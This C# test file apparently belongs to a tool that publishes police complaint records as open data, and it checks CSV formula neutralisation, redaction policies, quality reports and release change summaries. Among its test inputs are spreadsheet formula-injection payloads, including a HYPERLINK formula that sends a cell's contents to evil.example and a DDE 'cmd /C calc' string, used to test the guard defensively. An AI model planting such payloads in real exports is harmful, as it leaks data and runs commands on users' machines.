using System.Text.Json;
using System.Text.RegularExpressions;
using OpenConduct.Core.Disclosure;
using OpenConduct.Core.Import;
using OpenConduct.Core.Model;
using OpenConduct.Core.Release;
using OpenConduct.Core.Storage;
using OpenConduct.Core.Tests.Disclosure;
using static OpenConduct.Core.Tests.Release.ReleaseTestKit;

namespace OpenConduct.Core.Tests.Release;

/// <summary>Releases of hand-made records and of other policies: formula injection, columns per policy, changes, quality.</summary>
public sealed class ReleaseContentTests
{
    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")]
    [InlineData("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\rX", "'\rX")]
    [InlineData("-", "'-")]
    [InlineData("+", "'+")]
    [InlineData("--1", "'--1")]
    [InlineData("-3.", "'-3.")]
    [InlineData("-.5", "'-.5")]
    [InlineData("-1e5", "'-1e5")]
    [InlineData("-0x1F", "'-0x1F")]
    [InlineData("- 3", "'- 3")]
    [InlineData("-3", "-3")]
    [InlineData("+12", "+12")]
    [InlineData("-0.5", "-0.5")]
    [InlineData("42", "42")]
    [InlineData("1e5", "1e5")]
    [InlineData("a=b", "a=b")]
    [InlineData(" =1", " =1")]
    [InlineData("'=1", "'=1")]
    [InlineData("", "")]
    [InlineData("Use of Force", "Use of Force")]
    public void Cells_that_start_a_formula_are_neutralised_and_plain_numbers_are_not(string cell, string written)
    {
        Assert.Equal(written, CsvFormulaGuard.Neutralise(cell));
        Assert.Equal(cell != written, CsvFormulaGuard.NeedsNeutralising(cell));
    }

    private const string Source = "TEST";

    private static Officer Officer(string key, string lastName, string? rank = null, string? unit = null, string badge = "4417") => new()
    {
        Source = Source, Key = "id:" + key, EmployeeId = key, FirstName = "Dana", LastName = lastName, Rank = rank, Unit = unit,
        Badges = [new BadgeNumber(badge, new DateOnly(2010, 5, 1))], HireDate = new DateOnly(2010, 5, 1),
        Race = new Coded<Race>(Race.White, "W"), Sex = new Coded<Sex>(Sex.Female, "F"), BirthYear = 1980,
    };

    private static Complaint Complaint(string caseNumber, ComplaintStatus status, string? narrative = null) => new()
    {
        Source = Source, CaseNumber = caseNumber, ReceivedDate = new DateOnly(2024, 3, 14), IncidentDate = new DateOnly(2024, 3, 10),
        ClosedDate = status == ComplaintStatus.Closed ? new DateOnly(2024, 9, 30) : null,
        Status = new Coded<ComplaintStatus>(status, status.ToString()), Precinct = "3", Location = "3412 Nicollet Ave S", Narrative = narrative,
    };

    private static Allegation Allegation(string caseNumber, string officerKey, string id, string categoryRaw = "Use of Force") => new()
    {
        Source = Source, CaseNumber = caseNumber, AllegationId = id, OfficerKey = "id:" + officerKey,
        Category = new CodedText("UseOfForce", categoryRaw), Subcategory = new CodedText("Taser", "\tTaser deployment"),
        FinalFinding = new Coded<Finding>(Finding.Sustained, "SU"),
        ImposedDiscipline = new Coded<DisciplineKind>(DisciplineKind.Suspension, "SUSP"), ImposedDisciplineDays = -3, DisciplineFinal = true,
    };

    private static ImportReport EmptyReport() => new() { Profile = "test-profile", Source = Source };

    [Fact]
    public async Task A_crafted_formula_is_neutralised_in_the_csv_and_kept_in_the_json()
    {
        const string formula = "=cmd|' /C calc'!A0";
        const string hyperlink = "=HYPERLINK(\"https://evil.example/\",\"Click for details\")";
        var records = new CanonicalRecordSet();
        records.Add(Complaint("C-1", ComplaintStatus.Closed, hyperlink));
        records.Add(Allegation("C-1", "501", "1", formula));
        records.Add(Officer("501", "@SUM(1+1)", rank: "+1+1", unit: "-2+3", badge: "-3"));
        using var temp = new TempFolder();
        await BuildAsync(Input(records, EmptyReport(), source: Source), temp.Path);

        var allegation = Assert.Single(CsvRows(temp.Path, "datasets/allegations.csv"));
        Assert.Equal("'" + formula, allegation["category_raw"]);
        Assert.Equal("UseOfForce", allegation["category"]);
        Assert.Equal("'\tTaser deployment", allegation["subcategory_raw"]);
        Assert.Equal("-3", allegation["imposed_discipline_days"]); // a number column: left as it is
        Assert.Equal("1", allegation["allegation_id"]);

        var complaint = Assert.Single(CsvRows(temp.Path, "datasets/complaints.csv"));
        Assert.StartsWith("'=HYPERLINK(", complaint["narrative"], StringComparison.Ordinal);

        var officer = Assert.Single(CsvRows(temp.Path, "datasets/officers.csv"));
        Assert.Equal(("'@SUM(1+1)", "'+1+1", "'-2+3", "-3", "-3"), (officer["last_name"], officer["rank"], officer["unit"], officer["badge"], officer["badges"]));

        // The JSON datasets and the records keep the original values.
        using var json = Json(temp.Path, "datasets/allegations.json");
        var row = Assert.Single(json.RootElement.EnumerateArray().ToList());
        Assert.Equal(formula, row.GetProperty("category_raw").GetString());
        Assert.Equal(-3, row.GetProperty("imposed_discipline_days").GetInt32());
        using var officers = Json(temp.Path, "datasets/officers.json");
        Assert.Equal("@SUM(1+1)", officers.RootElement[0].GetProperty("last_name").GetString());
        Assert.Contains(JsonSerializer.Serialize(formula, new JsonSerializerOptions { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping }), Text(temp.Path, "records/cases.jsonl.gz"), StringComparison.Ordinal);

        // No cell of any CSV starts a formula.
        foreach (var csv in Directory.EnumerateFiles(temp.Path, "*.csv", SearchOption.AllDirectories))
        {
            foreach (var cell in TestCsv.Parse(File.ReadAllText(csv), ',').SelectMany(r => r))
            {
                Assert.False(CsvFormulaGuard.NeedsNeutralising(cell), $"{Path.GetFileName(csv)}: {cell}");
            }
        }
    }

    [Fact]
    public async Task The_strict_policy_publishes_fewer_columns_with_coarser_types()
    {
        var (records, report) = ImportSample("opcr");
        using var temp = new TempFolder();
        await BuildAsync(Input(records, report, RedactorTests.Strict), temp.Path);
        using var package = Json(temp.Path, "datapackage.json");
        var fields = package.RootElement.GetProperty("resources").EnumerateArray().ToDictionary(
            r => r.GetProperty("name").GetString()!,
            r => r.GetProperty("schema").GetProperty("fields").EnumerateArray().ToDictionary(f => f.GetProperty("name").GetString()!, f => f.GetProperty("type").GetString()!));

        Assert.Equal(
            ["source", "case_number", "received_date", "incident_date", "closed_date", "status", "status_raw", "intake_decision", "intake_decision_raw", "precinct", "location"],
            fields["complaints"].Keys);
        Assert.Equal("yearmonth", fields["complaints"]["received_date"]);
        Assert.DoesNotContain("narrative", fields["complaints"].Keys);
        Assert.DoesNotContain("allegation_id", fields["allegations"].Keys);
        Assert.DoesNotContain("subcategory", fields["allegations"].Keys);
        Assert.DoesNotContain("imposed_discipline_days", fields["allegations"].Keys);
        Assert.Equal(["source", "officer_ref", "employee_id", "first_name", "last_name", "badge", "badges", "rank", "hire_date"], fields["officers"].Keys);
        Assert.Equal("year", fields["officers"]["hire_date"]);

        var complaints = CsvRows(temp.Path, "datasets/complaints.csv");
        Assert.All(complaints, c => Assert.Matches("^p-[0-9a-f]{20}$", c["case_number"]));
        Assert.All(complaints, c => Assert.Matches("^[0-9]{4}-[0-9]{2}$", c["received_date"]));
        Assert.All(complaints.Where(c => c["location"].Length > 0), c => Assert.StartsWith("Precinct ", c["location"], StringComparison.Ordinal));
        Assert.All(CsvRows(temp.Path, "datasets/officers.csv").Where(o => o["hire_date"].Length > 0), o => Assert.Matches("^[0-9]{4}$", o["hire_date"]));
        var caseDescription = package.RootElement.GetProperty("resources")[0].GetProperty("schema").GetProperty("fields")[1].GetProperty("description").GetString();
        Assert.Contains("pseudonym", caseDescription, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Complainants_are_published_only_with_the_fields_the_policy_publishes()
    {
        var minnesota = RedactorTests.Minnesota;
        var fields = new Dictionary<string, FieldRule>(minnesota.Fields)
        {
            ["complainant.race"] = new FieldRule { Action = FieldAction.Keep },
            ["complainant.age"] = new FieldRule { Action = FieldAction.Generalize, To = Generalization.AgeBand },
        };
        var policy = new DisclosurePolicy
        {
            Name = "minnesota, complainant race and age band", Default = minnesota.Default, Fields = fields, Sensitivity = minnesota.Sensitivity,
            Finality = minnesota.Finality, Aggregation = minnesota.Aggregation, Pseudonymization = minnesota.Pseudonymization,
        };
        var (records, report) = ImportSample("opcr");
        using var temp = new TempFolder();
        var input = Input(records, report, policy);
        await BuildAsync(input, temp.Path);

        var csv = Csv(temp.Path, "datasets/complainants.csv");
        Assert.Equal(["source", "case_number", "complainant_index", "race", "race_raw", "age"], csv[0]);
        Assert.Equal(records.Complainants.Count, csv.Count - 1);
        Assert.Contains(csv.Skip(1), r => Regex.IsMatch(r[5], "^([0-9]+-[0-9]+|under [0-9]+|[0-9]+\\+)$"));
        Assert.True(File.Exists(Path.Combine(temp.Path, "datasets/complainants.json")));
        using var package = Json(temp.Path, "datapackage.json");
        Assert.Contains("complainants", package.RootElement.GetProperty("resources").EnumerateArray().Select(r => r.GetProperty("name").GetString()));
        using var catalog = Json(temp.Path, "data.json");
        Assert.Equal(4, catalog.RootElement.GetProperty("dataset").GetArrayLength());
        var line = Text(temp.Path, "records/cases.jsonl.gz").Split('\n')[0];
        Assert.Contains("\"complainants\":[", line, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Unmapped_values_are_listed_only_for_fields_whose_raw_text_is_published()
    {
        var records = new CanonicalRecordSet();
        records.Add(Complaint("C-1", ComplaintStatus.Open));
        records.Add(Allegation("C-1", "501", "1"));
        records.Add(Officer("501", "Olsen"));
        var report = EmptyReport();
        report.Unmapped.Add(new UnmappedValue("allegations.csv", "Allegation", "allegation.category", "categories", "Chokehold", 3, 7, "Other"));
        report.Unmapped.Add(new UnmappedValue("allegations.csv", "Allegation", "allegation.category", "categories", "Biting", 1, 9, "Other"));
        report.Unmapped.Add(new UnmappedValue("complainants.csv", "Race", "complainant.race", "race", "Kanarysecret", 2, 4, null));
        report.Unmapped.Add(new UnmappedValue("complainants.csv", "Race", "complainant.race", "race", "Kanaryother", 5, 8, null));
        using var temp = new TempFolder();
        var contents = await BuildAsync(Input(records, report, source: Source), temp.Path);

        Assert.Equal(4, contents.Quality.UnmappedValues);
        Assert.Equal(11, contents.Quality.UnmappedOccurrences);
        var text = Text(temp.Path, "quality.json");
        Assert.DoesNotContain("Kanary", text, StringComparison.Ordinal);
        using var json = JsonDocument.Parse(text);
        var fields = json.RootElement.GetProperty("unmapped").GetProperty("fields").EnumerateArray().ToList();
        Assert.Equal(2, fields.Count);
        var category = fields[0];
        Assert.Equal("allegation.category", category.GetProperty("field").GetString());
        Assert.True(category.GetProperty("valuesPublished").GetBoolean());
        Assert.Equal(["Biting:1", "Chokehold:3"], category.GetProperty("values").EnumerateArray().Select(v => $"{v.GetProperty("value").GetString()}:{v.GetProperty("count").GetInt32()}"));
        var race = fields[1];
        Assert.False(race.GetProperty("valuesPublished").GetBoolean());
        Assert.Equal((2, 7), (race.GetProperty("distinctValues").GetInt32(), race.GetProperty("occurrences").GetInt32()));
        Assert.False(race.TryGetProperty("values", out _));
    }

    [Fact]
    public async Task Row_errors_are_listed_with_their_location_and_reason_and_the_total_is_in_the_quality_report()
    {
        var records = new CanonicalRecordSet();
        records.Add(Complaint("C-1", ComplaintStatus.Open));
        var report = EmptyReport();
        report.AddRowError(new RowError("complaints.csv", 12, 3, "Date Received", "not a date in any of the formats M/d/yyyy"), keep: 1);
        report.AddRowError(new RowError("complaints.csv", 40, null, null, "-the row has 9 fields, the header 10"), keep: 1);
        using var temp = new TempFolder();
        var contents = await BuildAsync(Input(records, report, source: Source), temp.Path);

        Assert.Equal(
            [
                ["file", "line", "column", "column_name", "reason"],
                ["complaints.csv", "12", "3", "Date Received", "not a date in any of the formats M/d/yyyy"],
                ["complaints.csv", "40", "", "", "'-the row has 9 fields, the header 10"],
            ],
            Csv(temp.Path, "row-errors.csv"));
        // Every error is listed, not only those the report keeps for display.
        Assert.Equal((2L, 2L), (contents.Quality.RowErrors, contents.Quality.RowErrorsListed));
    }

    [Fact]
    public async Task Every_row_error_is_published_compressed_when_there_are_many()
    {
        var records = new CanonicalRecordSet();
        records.Add(Complaint("C-1", ComplaintStatus.Open));
        var report = EmptyReport();
        var count = ReleasePaths.RowErrorsCompressedAbove + 5;
        for (var line = 2; line < count + 2; line++)
        {
            report.AddRowError(new RowError("cases.json", line, null, "finding", $"$['C-{line}'].finding is an object, where column 'finding' needs a value", $"$['C-{line}'].finding"), keep: 10);
        }

        using var temp = new TempFolder();
        var contents = await BuildAsync(Input(records, report, source: Source), temp.Path);

        Assert.Equal((count, count, "row-errors.csv.gz"), (contents.Quality.RowErrors, contents.Quality.RowErrorsListed, contents.Quality.RowErrorsFile));
        var file = Directory.EnumerateFiles(temp.Path, "row-errors.csv.gz", SearchOption.AllDirectories).Single();
        using var reader = new StreamReader(new System.IO.Compression.GZipStream(File.OpenRead(file), System.IO.Compression.CompressionMode.Decompress));
        var lines = reader.ReadToEnd().Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(count + 1, lines.Length);
        // A JSON record's location is its line; the concrete path (which holds the record's keys) is not published.
        Assert.Equal("cases.json,2,,finding,\"(path) is an object, where column 'finding' needs a value\"", lines[1]);
        Assert.DoesNotContain(lines, l => l.Contains("C-", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_change_summary_lists_new_removed_status_findings_and_discipline_against_the_previous_release()
    {
        var (a, report) = ImportSample("opcr");
        using var temp = new TempFolder();
        var releases = new FolderReleaseStore(temp.Path);
        var inputA = Input(a, report, releaseId: "A");
        await ReleaseBuilder.BuildAsync(inputA, releases.Open("OPCR", "A"));

        // Release B: one open case closed with final findings and one final discipline, one case removed, one added.
        var published = inputA.Records.Cases.ToDictionary(c => c.Complaint.CaseNumber);
        var closing = a.Complaints
            .Where(c => c.Status.Value == ComplaintStatus.Open)
            .Select(c => c.CaseNumber)
            .First(n => a.Allegations.Count(x => x.CaseNumber == n) >= 2 && published[n].Allegations.All(x => x.ImposedDiscipline.Value is null));
        var removed = a.Complaints.Where(c => c.Status.Value == ComplaintStatus.Closed).Select(c => c.CaseNumber).Order(StringComparer.Ordinal).First();
        var b = new CanonicalRecordSet();
        foreach (var complaint in a.Complaints.Where(c => c.CaseNumber != removed))
        {
            b.Add(complaint.CaseNumber == closing
                ? complaint with { Status = new Coded<ComplaintStatus>(ComplaintStatus.Closed, "Closed"), ClosedDate = new DateOnly(2026, 10, 1) }
                : complaint);
        }

        var closingAllegations = new List<Allegation>();
        foreach (var allegation in a.Allegations.Where(x => x.CaseNumber != removed))
        {
            var changed = allegation;
            if (allegation.CaseNumber == closing)
            {
                var first = closingAllegations.Count == 0;
                changed = allegation with
                {
                    FinalFinding = new Coded<Finding>(first ? Finding.Sustained : Finding.Exonerated, first ? "SU" : "EX"),
                    ImposedDiscipline = first ? new Coded<DisciplineKind>(DisciplineKind.Suspension, "Suspension") : default,
                    ImposedDisciplineDays = first ? 3 : null,
                    DisciplineFinal = first ? true : null,
                };
                closingAllegations.Add(changed);
            }

            b.Add(changed);
        }

        foreach (var complainant in a.Complainants.Where(x => x.CaseNumber != removed))
        {
            b.Add(complainant);
        }

        foreach (var officer in a.Officers)
        {
            b.Add(officer);
        }

        var officer0 = a.Officers[0];
        b.Add(new Complaint { Source = "OPCR", CaseNumber = "OPCR-2099-0001", ReceivedDate = new DateOnly(2026, 10, 20), Status = new Coded<ComplaintStatus>(ComplaintStatus.Open, "Open") });
        b.Add(new Allegation { Source = "OPCR", CaseNumber = "OPCR-2099-0001", AllegationId = "99999", OfficerKey = officer0.Key, Category = new CodedText("Language", "Discourtesy") });

        var inputB = Input(b, report, releaseId: "B", previousId: "A", previous: releases.Open("OPCR", "A"));
        var contents = await ReleaseBuilder.BuildAsync(inputB, releases.Open("OPCR", "B"));
        var changes = contents.Changes;

        var redactor = RedactorTests.NewRedactor(RedactorTests.Minnesota);
        Assert.Equal("A", changes.PreviousReleaseId);
        Assert.Null(changes.Note);
        Assert.Equal(["OPCR-2099-0001"], changes.NewComplaintCases);
        Assert.Equal([removed], changes.RemovedCases);
        Assert.Equal([new StatusChange(closing, "Open", "Closed")], changes.StatusChangeList);
        Assert.Equal(
            closingAllegations.Select((x, i) => new FindingChange(closing, i + 1, x.AllegationId, redactor.OfficerRef("OPCR", x.OfficerKey), i == 0 ? "Sustained" : "Exonerated")),
            changes.FindingsFinalList);
        var x0 = closingAllegations[0];
        Assert.Equal([new DisciplineChange(closing, 1, x0.AllegationId, redactor.OfficerRef("OPCR", x0.OfficerKey), "Suspension", 3)], changes.DisciplineFinalList);
        Assert.Equal((1, 1, 1, closingAllegations.Count, 1), (changes.NewComplaints, changes.Removed, changes.StatusChanges, changes.FindingsFinal, changes.DisciplineFinal));

        using var json = Json(Path.Combine(temp.Path, "OPCR", "B"), "changes.json");
        var root = json.RootElement;
        Assert.Equal("A", root.GetProperty("previousReleaseId").GetString());
        Assert.Equal(closing, root.GetProperty("statusChanges")[0].GetProperty("caseNumber").GetString());
        Assert.Equal("Open", root.GetProperty("statusChanges")[0].GetProperty("from").GetString());
        Assert.Equal("Closed", root.GetProperty("statusChanges")[0].GetProperty("to").GetString());
        Assert.Equal(closingAllegations.Count, root.GetProperty("findingsFinal").GetArrayLength());
        Assert.Equal(3, root.GetProperty("disciplineFinal")[0].GetProperty("days").GetInt32());
        Assert.Equal(removed, root.GetProperty("removed")[0].GetString());
        Assert.Equal("OPCR-2099-0001", root.GetProperty("newComplaints")[0].GetString());

        // Against itself, nothing changed.
        var again = await ReleaseBuilder.BuildAsync(inputB with { ReleaseId = "C", PreviousReleaseId = "B", Previous = releases.Open("OPCR", "B") }, releases.Open("OPCR", "C"));
        Assert.Equal((0, 0, 0, 0, 0), (again.Changes.NewComplaints, again.Changes.Removed, again.Changes.StatusChanges, again.Changes.FindingsFinal, again.Changes.DisciplineFinal));
    }

    [Fact]
    public async Task Change_lists_are_capped_and_the_counts_are_complete()
    {
        var records = new CanonicalRecordSet();
        for (var i = 0; i < ChangeSummary.MaxListed + 5; i++)
        {
            records.Add(Complaint(FormattableString.Invariant($"C-{i:00000}"), ComplaintStatus.Open));
        }

        using var temp = new TempFolder();
        var contents = await BuildAsync(Input(records, EmptyReport(), source: Source), temp.Path);
        Assert.Equal(ChangeSummary.MaxListed + 5, contents.Changes.NewComplaints);
        Assert.Equal(ChangeSummary.MaxListed, contents.Changes.NewComplaintCases.Count);
        Assert.Equal("C-00999", contents.Changes.NewComplaintCases[^1]);
    }

    [Fact]
    public async Task A_previous_release_without_records_is_noted_and_every_complaint_counts_as_new()
    {
        var records = new CanonicalRecordSet();
        records.Add(Complaint("C-1", ComplaintStatus.Open));
        using var temp = new TempFolder();
        Directory.CreateDirectory(temp.Sub("empty"));
        var contents = await BuildAsync(Input(records, EmptyReport(), previousId: "old", previous: new FolderArtefactStore(temp.Sub("empty")), source: Source), temp.Sub("new"));
        Assert.Equal("old", contents.Changes.PreviousReleaseId);
        Assert.Contains("has no records/cases.jsonl.gz", contents.Changes.Note, StringComparison.Ordinal);
        Assert.Equal(["C-1"], contents.Changes.NewComplaintCases);
    }

    [Theory]
    [InlineData("https://opendatacommons.org/licenses/pddl/1-0/", null, "ODC-PDDL-1.0")]
    [InlineData("https://creativecommons.org/publicdomain/zero/1.0/", null, "CC0-1.0")]
    [InlineData("http://www.creativecommons.org/licenses/by/4.0", null, "CC-BY-4.0")]
    [InlineData("https://example.gov/open-data-license", null, null)]
    [InlineData("https://example.gov/open-data-license", "City-OL-2.0", "City-OL-2.0")]
    public void The_data_package_names_the_license_the_publisher_gives(string url, string? name, string? expected)
    {
        var publisher = new PublisherOptions { License = url };
        publisher = name is null ? publisher : publisher with { LicenseName = name, LicenseTitle = "City Open License 2.0" };
        Assert.Equal(expected, OpenData.License(publisher).Name);
    }

    [Fact]
    public void The_docs_list_every_column_any_policy_can_publish()
    {
        var everything = new DisclosurePolicy
        {
            Name = "everything",
            Default = new FieldRule { Action = FieldAction.Keep },
            Fields = new Dictionary<string, FieldRule>(),
            Finality = new FinalityRule { HideRecommendations = false },
            Pseudonymization = RedactorTests.Minnesota.Pseudonymization,
        };
        var publication = new Publication(everything);
        var columns = new[]
        {
            (Datasets.Complaints, Datasets.ComplaintSet(publication).ColumnInfos),
            (Datasets.Allegations, Datasets.AllegationSet(publication).ColumnInfos),
            (Datasets.Officers, Datasets.OfficerSet(publication).ColumnInfos),
            (Datasets.Complainants, Datasets.ComplainantSet(publication)!.ColumnInfos),
            ("row-errors", Datasets.RowErrorColumns),
        };
        var docs = File.ReadAllText(DocsFile.PathOf("releases.md"));
        foreach (var (dataset, list) in columns)
        {
            var section = Regex.Match(docs, $"<!-- columns: {Regex.Escape(dataset)} -->\n(?<body>(\\|.*\n)+)").Groups["body"].Value;
            Assert.False(section.Length == 0, $"docs/releases.md has no column table for {dataset}");
            var documented = Regex.Matches(section, "^\\| `([a-z_]+)` \\|", RegexOptions.Multiline).Select(m => m.Groups[1].Value).ToList();
            Assert.Equal(list.Select(c => c.Name), documented);
        }
    }
}
